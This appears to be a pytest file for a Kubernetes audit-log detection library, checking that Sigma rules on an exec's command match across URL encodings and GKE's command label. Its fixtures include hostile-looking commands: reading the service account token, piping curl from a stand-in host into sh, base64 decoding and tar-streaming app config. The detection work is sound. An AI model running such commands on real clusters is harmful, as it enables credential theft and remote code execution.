"""`exec.command`: an exec's command as typed, matched in every spelling clients put in the request URI
(arguments apart, spaces as + or %20, characters escaped or not) and in GKE's command label."""

from __future__ import annotations

import itertools
from functools import cache
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from kubesigma.connectors.model import KUBERNETES_AUDIT
from kubesigma.detections.engine import RuleLoadError, RuleSet


@cache
def _rule(modifier: str, value: str) -> RuleSet:
    doc = {
        "title": "exec command",
        "id": "00000000-0000-0000-0000-0000000000ec",
        "status": "test",
        "logsource": {"product": "kubernetes", "service": "audit"},
        "detection": {"sel": {f"exec.command|{modifier}": value}, "condition": "sel"},
        "level": "low",
    }
    return RuleSet.from_yaml([yaml.safe_dump(doc)])


def _uri(args: list[str], escape: Any) -> dict[str, Any]:
    query = "&".join(f"command={escape(a)}" for a in args)
    return {
        "verb": "create",
        "requestURI": f"/api/v1/namespaces/shop/pods/web/exec?{query}&container=web&stdout=true",
        "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "shop", "name": "web"},
    }


GO = lambda a: quote_plus(a, safe="")  # noqa: E731  kubectl (url.Values.Encode), Python's urlencode
PERCENT = lambda a: quote(a, safe="")  # noqa: E731  spaces as %20
LOOSE = lambda a: quote(a, safe="/:")  # noqa: E731  clients that leave slashes and colons
CLIENTS = {"go": GO, "percent": PERCENT, "loose": LOOSE}


def _fires(modifier: str, value: str, doc: dict[str, Any]) -> bool:
    return bool(_rule(modifier, value).match_document(KUBERNETES_AUDIT, doc))


@pytest.mark.parametrize("client", CLIENTS)
@pytest.mark.parametrize(
    ("args", "modifier", "value", "expected"),
    [
        (
            ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
            "contains",
            "/serviceaccount/token",
            True,
        ),
        (["sh", "-c", "curl -s http://x.example/a | sh"], "contains", "| sh", True),
        (["sh", "-c", "curl -s http://x.example/a | sh"], "contains", "curl -s", True),
        (["sh", "-c", "echo aGk= | base64 -d"], "contains", "base64 -d", True),
        (["base64", "-d", "/tmp/p"], "contains", "base64 -d", True),  # the space between two arguments
        (["tar", "cf", "-", "/app/config"], "startswith", "tar cf -", True),
        (["sh", "-c", "tar cf - /app | tail -c+1"], "contains", "tar cf -", True),
        (["tar", "-xmf", "-", "-C", "/tmp"], "contains", "tar cf -", False),
        (["ls", "/app"], "contains", "/var/run/secrets", False),
        (["cat", "/app/tar cf -.txt"], "startswith", "tar cf -", False),  # not where an argument starts
    ],
)
def test_a_command_matches_as_typed_whatever_the_client_wrote(
    args, modifier, value, expected, client
) -> None:
    assert _fires(modifier, value, _uri(args, CLIENTS[client])) is expected


def test_gke_keeps_the_command_in_a_label() -> None:
    doc = {
        "verb": "create",
        "requestURI": "/api/v1/namespaces/shop/pods/web/exec",
        "objectRef": {"resource": "pods", "subresource": "exec"},
        "annotations": {"command.gke.io/command": "sh -c tar cf - /app | tail -c+1"},
    }
    assert _fires("contains", "tar cf -", doc)
    assert _fires("startswith", "sh -c", doc)
    assert not _fires("startswith", "tar", doc)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.text(st.characters(min_codepoint=33, max_codepoint=126), min_size=1, max_size=8),
        min_size=1,
        max_size=4,
    ),
    st.sampled_from(sorted(CLIENTS)),
)
def test_every_argument_a_client_sends_is_found(args: list[str], client: str) -> None:
    """Each argument, and each pair of neighbours joined by a space, is found as typed."""
    doc = _uri(args, CLIENTS[client])
    for arg in args:
        assert _fires("contains", _sigma(arg), doc), (arg, doc["requestURI"])
    for a, b in itertools.pairwise(args):
        assert _fires("contains", _sigma(f"{a} {b}"), doc)


def _sigma(text: str) -> str:
    """Text as a Sigma string value: its wildcards and backslashes escaped."""
    return "".join("\\" + c if c in "*?\\" else c for c in text)


def test_a_regular_expression_on_exec_command_is_refused_with_a_reason() -> None:
    doc = {
        "title": "exec command re",
        "id": "00000000-0000-0000-0000-0000000000ed",
        "status": "test",
        "logsource": {"product": "kubernetes", "service": "audit"},
        "detection": {"sel": {"exec.command|re": "curl.*sh"}, "condition": "sel"},
        "level": "low",
    }
    with pytest.raises(RuleLoadError, match=r"exec\.command takes strings"):
        RuleSet.from_yaml([yaml.safe_dump(doc)])
